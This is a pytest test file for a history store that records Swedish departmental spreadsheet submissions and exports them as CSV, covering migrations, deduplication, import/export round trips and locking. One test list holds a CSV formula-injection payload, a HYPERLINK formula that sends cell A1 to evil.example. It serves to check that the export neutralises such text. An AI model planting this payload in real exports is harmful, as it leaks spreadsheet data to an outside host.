"""The history store, on a real SQLite file and a real PostgreSQL server."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import hashlib
import io
import math
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from intraxl.history import export_history, import_history
from intraxl.store import Received, Store, schema
from intraxl.store.migrations import MIGRATIONS, migrate
from intraxl.validate import validate_file

from .conftest import EXAMPLES, ROOT, libreoffice_convert
from .test_validate import FEB, set_cell, write_hr

HISTORY = ROOT / "workbooks" / "history" / "2022.csv"


def counts(store: Store) -> dict[str, int]:
    with store.engine.connect() as conn:
        return {t: conn.execute(sa.text(f"select count(*) from {t}")).scalar()
                for t in ("submissions", "facts", "schema_migrations")}


def test_schema_is_created_and_migrations_run_once(db_url):
    store = Store(db_url)
    assert store.migrations_applied == ["0001_initial", "0002_attachments",
                                        "0003_submission_rules", "0004_mailbox_positions",
                                        "0005_facts_by_cell",
                                        "0006_facts_without_period_index",
                                        "0007_submission_last_receipt"]
    store.dispose()
    again = Store(db_url)
    assert again.migrations_applied == []
    assert counts(again) == {"submissions": 0, "facts": 0, "schema_migrations": 7}


def test_the_migrations_make_exactly_the_tables_the_store_queries(db_url):
    """The frozen migration steps and the live table definitions must not drift apart."""
    store = Store(db_url)
    inspector = sa.inspect(store.engine)
    for table in schema.metadata.sorted_tables:
        columns = {c["name"]: c for c in inspector.get_columns(table.name)}
        assert set(columns) == {c.name for c in table.columns}, table.name
        for c in table.columns:
            assert columns[c.name]["nullable"] == c.nullable, (table.name, c.name)
        indexes = {i["name"]: i["column_names"] for i in inspector.get_indexes(table.name)
                   if not i.get("duplicates_constraint")}  # PostgreSQL's unique constraints
        assert indexes == {i.name: [c.name for c in i.columns] for i in table.indexes}, \
            table.name


def test_a_database_of_the_first_release_upgrades_keeping_its_rows(db_url, mappings):
    engine = sa.create_engine(db_url)
    with engine.begin() as conn:
        assert migrate(conn, upto=1) == ["0001_initial"]
        # What the first release stored for the HR example: the row and one fact.
        sid = conn.execute(sa.text(
            "INSERT INTO submissions (sha256, unit_id, period, file_name, source, sender, "
            "received_at, template_version, accepted, error_count, warning_count, issues, "
            "stored_at) VALUES ('abc', 'gt-hr', '2023-02', 'hr.xlsx', 'inbox', NULL, "
            ":t, '2023.1', :yes, 0, 0, '[]', :t) RETURNING id"),
            {"t": dt.datetime(2023, 3, 2, 8, 0), "yes": True}).scalar_one()
        conn.execute(sa.text(
            "INSERT INTO facts (submission_id, period, unit_id, table_name, row_id, field, "
            "value_num) VALUES (:sid, '2023-02', 'gt-hr', 'Ekonomi', 'kostnad.totalt', "
            "'Utfall ack', 24075)"), {"sid": sid})
    engine.dispose()
    store = Store(db_url)
    assert store.migrations_applied == ["0002_attachments", "0003_submission_rules",
                                        "0004_mailbox_positions", "0005_facts_by_cell",
                                        "0006_facts_without_period_index",
                                        "0007_submission_last_receipt"]
    [old] = store.submissions("2023-02")
    assert (old.id, old.sha256, old.file_name, old.accepted, old.rules) == \
        (sid, "abc", "hr.xlsx", True, None)
    assert store.facts(["2023-02"])["value"].tolist() == [24075]


def test_a_database_before_the_facts_cell_index_upgrades_and_reads_a_cell_by_it(db_url):
    """0005 replaces the facts' index by submission with one by submission and cell (and
    0006 drops the unused one by period and unit); the facts stored before are read by cell
    through it, only numbers when asked."""
    engine = sa.create_engine(db_url)
    with engine.begin() as conn:
        assert migrate(conn, upto=4)[-1] == "0004_mailbox_positions"
        sid = conn.execute(sa.text(
            "INSERT INTO submissions (sha256, unit_id, period, file_name, source, received_at, "
            "accepted, error_count, warning_count, issues, stored_at) VALUES ('abc', 'gt-hr', "
            "'2023-02', 'hr.xlsx', 'inbox', :t, :yes, 0, 0, '[]', :t) RETURNING id"),
            {"t": dt.datetime(2023, 3, 2, 8, 0), "yes": True}).scalar_one()
        for rid, num, text_ in (("kostnad.totalt", 24075, None), ("kostnad.it", None, "x"),
                                ("kostnad.it", 1.5, None)):
            conn.execute(sa.text(
                "INSERT INTO facts (submission_id, period, unit_id, table_name, row_id, field, "
                "value_num, value_text) VALUES (:sid, '2023-02', 'gt-hr', 'Ekonomi', :rid, "
                ":field, :num, :text)"),
                {"sid": sid, "rid": rid, "num": num, "text": text_,
                 "field": "Utfall ack" if num != 1.5 else "Prognos helår"})
    engine.dispose()
    store = Store(db_url)
    assert store.migrations_applied == ["0005_facts_by_cell", "0006_facts_without_period_index",
                                        "0007_submission_last_receipt"]
    indexes = {i["name"]: i["column_names"] for i in sa.inspect(store.engine).get_indexes("facts")}
    assert indexes == {"ix_facts_submission_cell": ["submission_id", "table_name", "field"]}
    cell = [("Ekonomi", "Utfall ack")]
    assert sorted(store.fact_rows(["2023-02"], cell), key=str) == [
        ("2023-02", "gt-hr", "Ekonomi", "kostnad.it", "Utfall ack", "x"),
        ("2023-02", "gt-hr", "Ekonomi", "kostnad.totalt", "Utfall ack", 24075.0)]
    assert list(store.fact_rows(["2023-02"], cell, numbers=True)) == [
        ("2023-02", "gt-hr", "Ekonomi", "kostnad.totalt", "Utfall ack", 24075.0)]
    if store.engine.dialect.name == "sqlite":
        with store.engine.connect() as conn:
            plan = conn.exec_driver_sql(
                "EXPLAIN QUERY PLAN SELECT row_id FROM facts WHERE submission_id IN (1, 2) "
                "AND table_name = 'Ekonomi' AND field = 'Utfall ack'").all()
        assert "ix_facts_submission_cell (submission_id=? AND table_name=? AND field=?)" in \
            str(plan)
        # A driver of another parameter style is read through SQLAlchemy: the same rows.
        fast = sorted(store.fact_rows(["2023-02"], cell), key=str)
        store.engine.dispose()
        store.engine = sa.create_engine(db_url, paramstyle="named")
        assert sorted(store.fact_rows(["2023-02"], cell), key=str) == fast
        assert list(store.fact_rows(["2023-02"], cell, numbers=True)) == fast[1:]
    store.dispose()


def test_recording_is_idempotent(db_url, mappings):
    store = Store(db_url)
    reports = [validate_file(f, mappings, FEB) for f in sorted(EXAMPLES.glob("*.xlsx"))]
    first = store.record([Received(r) for r in reports])
    assert all(new for _, new in first)
    before = counts(store)
    assert before["submissions"] == 7
    assert before["facts"] == sum(len(r.submission.facts) for r in reports)
    second = store.record([Received(r) for r in reports])
    assert [i for i, _ in second] == [i for i, _ in first] and not any(n for _, n in second)
    assert counts(store) == before
    # Every value comes back as it was validated: numbers, texts, dates.
    stored = store.facts(["2023-02"])
    got = sorted((u, t, i, f, v) for u, t, i, f, v in zip(
        stored["unit_id"], stored["table"], stored["id"], stored["field"], stored["value"],
        strict=True))
    want = sorted((r.unit_id, *f[:3], float(f[3]) if isinstance(f[3], int) else f[3])
                  for r in reports for f in r.submission.facts)
    assert got == want and any(isinstance(v, dt.date) for *_, v in want)
    # Some fields only (the year's earlier months for month over month): those facts, as
    # the whole read has them, in the same order.
    fields = ["Utfall", "Prognos helår"]
    some = store.facts(["2023-02"], fields)
    assert len(some) and some.values.tolist() == \
        stored[stored["field"].isin(fields)].values.tolist()


def test_facts_read_in_batches_come_in_the_order_stored(db_url, mappings, monkeypatch):
    """Facts are read a batch of submissions at a time: whatever the batches, the frame is
    the same, in the order the facts were stored, every repeated text one object."""
    import intraxl.store as store_module

    store = Store(db_url)
    reports = [validate_file(f, mappings, FEB) for f in sorted(EXAMPLES.glob("*.xlsx"))]
    store.record([Received(r) for r in reversed(reports)])  # ids against the files' order
    whole = store.facts(["2023-02"])
    monkeypatch.setattr(store_module, "FACT_BATCH", 2)
    batched = store.facts(["2023-02"])
    assert batched.values.tolist() == whole.values.tolist()
    assert len(whole) == sum(len(r.submission.facts) for r in reports)
    assert whole["unit_id"].tolist() == [r.unit_id for r in reversed(reports)
                                         for _ in r.submission.facts]
    units = whole["unit_id"].tolist()
    assert len({id(u) for u in units}) == len(set(units)) == 7


def test_facts_kept_while_storing_read_as_the_database_gives_them(db_url, mappings,
                                                                  tmp_path):
    """A month's run keeps what it stores in memory and reads its report from there: the
    same frame, value for value and type for type, in the same order, as the database gives
    to a Store that kept nothing, with files stored before, a superseding file, a file
    stored again under other rules, and some fields only."""
    store = Store(db_url)
    reports = [validate_file(f, mappings, FEB) for f in sorted(EXAMPLES.glob("*.xlsx"))]
    # values of every kind a fact may hold (a file's are numbers, texts and dates)
    reports[4].submission.facts += [("Info", "x", "Heltal", 7), ("Info", "x", "Sant", True),
                                    ("Info", "x", "Tid", dt.datetime(2023, 2, 3, 4, 5)),
                                    ("Info", "x", "Inget", math.nan)]
    store.record([Received(r) for r in reports[:3]], rules="old")  # before the run
    newer = validate_file(write_hr(mappings, tmp_path / "hr-v2.xlsx", set_cell(
        "Ekonomi", "kostnad.totalt", "Utfall ack", 25000)), mappings, FEB)
    later = dt.datetime(2030, 1, 1)
    fields = ["Utfall", "Slutdatum", "Kommentar", "Heltal", "Sant", "Tid", "Inget"]
    read_from_db: list[int] = []
    parts = Store._fact_parts

    def spy(self, ids, *args, **kw):
        read_from_db.extend(ids)
        return parts(self, ids, *args, **kw)

    with store.keeping_facts():
        # the third file stored again (other rules), the hr file superseded
        kept_ids = [sid for sid, _ in store.record([Received(r) for r in reversed(reports[2:])],
                                                   rules="new")]
        kept_ids += [sid for sid, _ in store.record([Received(newer, received_at=later)],
                                                    rules="new")]
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(Store, "_fact_parts", spy)
            kept = store.facts(["2023-02"])
            kept_some = store.facts(["2023-02"], fields)
        assert read_from_db and not set(read_from_db) & set(kept_ids)  # from memory
    read = Store(db_url)
    whole, some = read.facts(["2023-02"]), read.facts(["2023-02"], fields)
    read.dispose()
    store.dispose()

    def typed(df: pd.DataFrame) -> list[tuple]:
        return [(*row, type(row[-1])) for row in df.values.tolist()]

    assert len(whole) > 300 and typed(kept) == typed(whole)
    assert len(some) and typed(kept_some) == typed(some)
    assert {type(v) for v in whole["value"]} == {float, str, dt.date, type(None)}
    assert 25000 in whole["value"].tolist() and 7.0 in some["value"].tolist()


def test_the_same_file_twice_in_one_batch_is_stored_once(db_url, mappings):
    store = Store(db_url)
    report = validate_file(EXAMPLES / "manadsuppfoljning_2023-02_gt-hr.xlsx", mappings, FEB)
    (a, new_a), (b, new_b) = store.record([Received(report), Received(report)])
    assert a == b and (new_a, new_b) == (True, False)
    assert counts(store)["submissions"] == 1
    assert counts(store)["facts"] == len(report.submission.facts)


def test_every_unreadable_file_is_kept_with_its_checksum(db_url, mappings, tmp_path):
    csv, broken = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    csv.write_text("Rad-ID;Utfall\n", encoding="utf-8")
    broken.write_bytes(b"PK\x03\x04 not a zip at all")
    reports = [validate_file(f, mappings, FEB) for f in (csv, broken)]
    assert [r.issues[0].code for r in reports] == ["not-a-workbook", "corrupt-file"]
    store = Store(db_url)
    assert [new for _, new in store.record([Received(r) for r in reports])] == [True, True]
    rows = [(s.file_name, s.sha256, s.accepted) for s in store.submissions()]
    assert rows == [("a.xlsx", hashlib.sha256(csv.read_bytes()).hexdigest(), False),
                    ("b.xlsx", hashlib.sha256(broken.read_bytes()).hexdigest(), False)]
    assert not any(new for _, new in store.record([Received(r) for r in reports]))


def test_newer_submission_supersedes_and_both_are_kept(db_url, mappings, tmp_path):
    store = Store(db_url)
    old = validate_file(EXAMPLES / "manadsuppfoljning_2023-02_gt-hr.xlsx", mappings, FEB)
    new_file = write_hr(mappings, tmp_path / "hr-v2.xlsx",
                        set_cell("Ekonomi", "kostnad.totalt", "Utfall ack", 25000))
    new = validate_file(new_file, mappings, FEB)
    t0 = dt.datetime(2023, 3, 6, 9, 0)
    store.record([Received(old, received_at=t0),
                  Received(new, received_at=t0 + dt.timedelta(hours=3), sender="hr@x.se")])
    latest = store.latest_accepted("2023-02")
    assert latest["gt-hr"].file_name == "hr-v2.xlsx" and latest["gt-hr"].sender == "hr@x.se"
    assert [s.file_name for s in store.submissions("2023-02")] == [
        "manadsuppfoljning_2023-02_gt-hr.xlsx", "hr-v2.xlsx"]
    facts = store.facts(["2023-02"])
    value = facts[(facts.table == "Ekonomi") & (facts.id == "kostnad.totalt")
                  & (facts.field == "Utfall ack")]["value"]
    assert list(value) == [25000]


def test_a_rejected_file_is_logged_but_has_no_facts(db_url, mappings, tmp_path):
    store = Store(db_url)
    bad = validate_file(write_hr(mappings, tmp_path / "bad.xlsx", set_cell(
        "Ekonomi", "kostnad.totalt", "Utfall ack", "tolv")), mappings, FEB)
    (sid, new), = store.record([Received(bad)])
    (rec,) = store.submissions("2023-02")
    assert rec.id == sid and not rec.accepted and rec.error_count == 1
    assert rec.issues[0]["code"] == "not-a-number" and rec.issues[0]["cell"] == "C7"
    assert store.latest_accepted("2023-02") == {}
    assert counts(store)["facts"] == 0 and store.facts(["2023-02"]).empty


def test_history_import_export_round_trip(db_url, mappings, tmp_path):
    store = Store(db_url)
    issues, summary = import_history(HISTORY, mappings, store)
    assert issues == [] and summary == {"perioder": 2, "enheter": 7, "fakta": 85, "nya": 14,
                                        "nya fakta": 85}
    before = counts(store)
    assert import_history(HISTORY, mappings, store)[1] == {
        "perioder": 2, "enheter": 7, "fakta": 85, "nya": 0, "nya fakta": 0}
    assert counts(store) == before
    out = tmp_path / "export.csv"
    assert export_history(store, mappings, out) == 85
    assert sorted(_csv_rows(out)) == sorted(_csv_rows(HISTORY))
    parquet = tmp_path / "export.parquet"
    export_history(store, mappings, parquet, ["2022-12"])
    df = pd.read_parquet(parquet)
    hme = df[(df["ID"] == "hme")]
    assert list(hme["Tal"]) == [77.0] and list(hme["Värde"]) == ["77"]


# LibreOffice's CSV import as Excel in Swedish reads a file: `;`, `"`, UTF-8, from line 1,
# standard columns, Swedish (LCID 1053: decimal comma).
SWEDISH_CSV = "CSV:59,34,76,1,,1053"


def _csv_rows(path) -> list[tuple]:
    """A tidy CSV file's rows, its delimiter the header's, numbers as numbers (a decimal
    comma or point)."""
    text = path.read_text(encoding="utf-8-sig")
    delimiter = max(",;", key=text.splitlines()[0].count)

    def value(v: str):
        try:
            return float(v.replace(",", "."))
        except ValueError:
            return v

    return [tuple(map(value, row)) for row in csv.reader(io.StringIO(text), delimiter=delimiter)]


def test_the_csv_export_is_what_excel_in_swedish_reads(mappings, tmp_path):
    """UTF-8 with a BOM (without it Excel shows åäö garbled), `;` between fields and a
    decimal comma; LibreOffice reading it the Swedish way gets the names and numbers."""
    store = Store(f"sqlite:///{tmp_path / 'intraxl.db'}")
    import_history(HISTORY, mappings, store)
    out = tmp_path / "export.csv"
    export_history(store, mappings, out)
    data = out.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    lines = data[3:].decode("utf-8").splitlines()
    assert lines[0] == "Period;Enhet-ID;Enhet;Tabell;ID;Fält;Värde"
    assert any(line.endswith(";Utfall;0,039") and "Gemensamma tjänster – Ekonomi" in line
               for line in lines), lines[:5]
    lo = tmp_path / "lo"
    lo.mkdir()
    sheet = openpyxl.load_workbook(libreoffice_convert(out, "xlsx", lo, SWEDISH_CSV)).active
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    assert rows[0] == ["Period", "Enhet-ID", "Enhet", "Tabell", "ID", "Fält", "Värde"]
    assert ["gt-ekonomi", "Gemensamma tjänster – Ekonomi", "Indikatorer", "sjukfranvaro",
            "Utfall", 0.039] in [r[1:] for r in rows]


def test_a_bad_history_file_imports_nothing(db_url, mappings, tmp_path):
    store = Store(db_url)
    lines = HISTORY.read_text(encoding="utf-8").splitlines()
    lines[3] = lines[3].replace(",0.039", ",5.9")  # a percentage over 100
    lines[5] = lines[5].replace("gt-ekonomi", "gt-okand")
    lines.append("2022-13,gt-hr,,Indikatorer,hme,Utfall,77")
    bad = tmp_path / "bad.csv"
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    issues, _ = import_history(bad, mappings, store)
    assert [(i.code, i.cell) for i in issues] == [
        ("percent-over-100", "G4"), ("unknown-unit", "B6"), ("invalid-period", "A87")]
    assert counts(store)["submissions"] == 0


def test_history_cli(tmp_path, monkeypatch):
    from click.testing import CliRunner

    from intraxl.cli import main

    monkeypatch.chdir(ROOT)
    db = tmp_path / "h.db"
    result = CliRunner().invoke(main, ["history", "import", str(HISTORY), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert "importerade 85 nya fakta" in result.output
    out = tmp_path / "x.csv"
    result = CliRunner().invoke(main, ["history", "export", "--out", str(out), "--db", str(db)])
    assert result.exit_code == 0 and out.exists()
    bad = tmp_path / "bad.csv"
    bad.write_text("nope\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["history", "import", str(bad), "--db", str(db)])
    assert result.exit_code == 1 and "nothing was imported" in result.output


@pytest.mark.parametrize("url", ["postgresql+psycopg://nobody@127.0.0.1:1/none"])
def test_unreachable_database_is_a_clear_error(url):
    from intraxl.errors import IntraxlError

    with pytest.raises(IntraxlError, match="cannot open the history database"):
        Store(url)


# Comments a department might write, each a formula to a spreadsheet opening a plain CSV.
FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klicka")', "+46 31 365 00 00",
                 "-5 % mot plan", "@ekonomi se mejl", "'=redan skyddad", "'citat'"]
PLAIN_TEXTS = ["007", "1 234,5"]  # text that looks like a number stays text


def test_csv_export_shows_formula_like_text_as_text_and_reads_back_exactly(
        db_url, mappings, tmp_path):
    texts = FORMULA_TEXTS + PLAIN_TEXTS
    sections = mappings.plan.comment_sections

    def edit(v):
        for section, text in zip(sections, texts, strict=True):
            set_cell("Kommentarer", section, "Text", text)(v)

    report = validate_file(write_hr(mappings, tmp_path / "hr.xlsx", edit), mappings, FEB)
    assert report.valid
    store = Store(db_url)
    store.record([Received(report)])
    out = tmp_path / "export.csv"
    export_history(store, mappings, out)
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig"), delimiter=";"))
    cells = {(r["ID"], r["Fält"]): r["Värde"] for r in rows}
    for section, text in zip(sections, texts, strict=True):
        assert cells[(section, "Text")] == ("'" + text if text in FORMULA_TEXTS else text)
    assert cells[("resultat.forvaltning", "Prognos helår")] == "-500"  # a number, unchanged

    # LibreOffice opens the export with every such comment as text, the number as a number.
    lo = tmp_path / "lo"
    lo.mkdir()
    sheet = openpyxl.load_workbook(libreoffice_convert(out, "xlsx", lo, SWEDISH_CSV)).active
    shown = {(r["ID"], r["Fält"]): cell for r, (*_, cell) in zip(
        rows, sheet.iter_rows(min_row=2, max_col=7), strict=True)}
    for section, text in zip(sections, FORMULA_TEXTS, strict=False):
        assert shown[(section, "Text")].data_type == "s", section
        assert shown[(section, "Text")].value == "'" + text
    assert shown[("resultat.forvaltning", "Prognos helår")].value == -500

    # intraxl's own export reads back exactly: every value, of every type.
    again = Store(f"sqlite:///{tmp_path / 'again.db'}")
    issues, summary = import_history(out, mappings, again)
    assert not [i for i in issues if i.severity == "error"] and summary["nya"] == 1

    def facts(s: Store) -> list[tuple]:
        return sorted(map(tuple, s.facts(["2023-02"]).astype(str).values.tolist()))

    assert facts(again) == facts(store)
    assert {t for (_, _, table, _, field, t) in facts(again) if field == "Text"} >= set(texts)


def _intraxl(tmp_path, *args: str, timeout: str = "300") -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "intraxl.cli", *args, "--mappings", str(ROOT / "mappings")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp_path,
        env={**os.environ, "INTRAXL_LOCK_TIMEOUT": timeout})


def test_two_runs_at_once_take_turns(db_url, mappings, tmp_path):
    """Two consolidates and two collects on one fresh database at once, in four processes:
    each waits for the other, every one succeeds, nothing is stored twice."""
    from .test_collect import the_month

    mails = the_month(mappings, tmp_path / "mails")
    master = tmp_path / "master.xlsx"
    runs = [_intraxl(tmp_path, "consolidate", str(EXAMPLES), "--period", "2023-02",
                     "--db", db_url, "--out", str(master)) for _ in range(2)]
    runs += [_intraxl(tmp_path, "collect", str(mails), "--period", "2023-02", "--db", db_url,
                      "--inbox", str(tmp_path / "inbox"), "--quarantine",
                      str(tmp_path / "quarantine")) for _ in range(2)]
    outputs = [run.communicate(timeout=600) for run in runs]
    assert [run.returncode for run in runs] == [0, 0, 0, 0], outputs
    assert not any("Traceback" in out + err for out, err in outputs)
    store = Store(db_url)
    reports = [validate_file(f, mappings, FEB) for f in sorted(EXAMPLES.glob("*.xlsx"))]
    # The inbox's files are the examples' own bytes: the same seven submissions.
    assert counts(store) == {"submissions": 7, "schema_migrations": len(MIGRATIONS),
                             "facts": sum(len(r.submission.facts) for r in reports)}
    assert len(store.attachments("2023-02")) == 7
    assert sorted(p.name for p in (tmp_path / "inbox").iterdir()) == sorted(
        p.name for p in EXAMPLES.glob("*.xlsx"))
    assert openpyxl.load_workbook(master)["Data"].max_row > 1


def test_a_run_waits_a_bounded_time_for_another(db_url, tmp_path):
    store = Store(db_url)
    master = tmp_path / "master.xlsx"
    args = ("consolidate", str(EXAMPLES), "--period", "2023-02", "--db", db_url, "--out",
            str(master))
    with store.run_lock():  # another run holds the database
        out, err = _intraxl(tmp_path, *args, timeout="2").communicate(timeout=120)
        assert err.strip().splitlines() == [
            f"error: the history database {store.safe_url} is in use by another intraxl run; "
            "waited 2 s (try again when it is done)"], out + err
    assert counts(store)["submissions"] == 0 and not master.exists()
    run = _intraxl(tmp_path, *args, timeout="2")
    out, err = run.communicate(timeout=300)
    assert run.returncode == 0, out + err
    assert counts(store)["submissions"] == 7 and master.exists()


def test_a_file_received_again_is_dated_and_credited_by_its_latest_receipt(db_url, mappings,
                                                                            tmp_path):
    """The same workbook by e-mail twice, from two senders: its latest receipt (time and
    sender) is what the store tells; the folder's time of its inbox copy re-dates nothing
    that came by e-mail."""
    report = validate_file(EXAMPLES / "manadsuppfoljning_2023-02_gt-hr.xlsx", mappings, FEB)
    inbox_copy = Path(shutil.copy(EXAMPLES / "manadsuppfoljning_2023-02_gt-hr.xlsx", tmp_path))
    report = report.model_copy(update={"file": str(inbox_copy)})
    t0 = dt.datetime(2023, 3, 2, 9, 0)
    store = Store(db_url)
    store.record([Received(report, source="email", sender="a@x.se", received_at=t0)])
    store.record([Received(report, source="email", sender="b@x.se",
                           received_at=t0 + dt.timedelta(days=2))])
    (rec,) = store.submissions("2023-02")
    assert (rec.sender, rec.received_at, rec.source) == ("b@x.se", t0 + dt.timedelta(days=2),
                                                         "email")
    os.utime(inbox_copy, (t0.timestamp() + 10 * 86400,) * 2)  # the copy saved much later
    store.record([Received(report)])  # as consolidate on the inbox folder records it
    assert store.submissions("2023-02") == [rec]
    store.dispose()
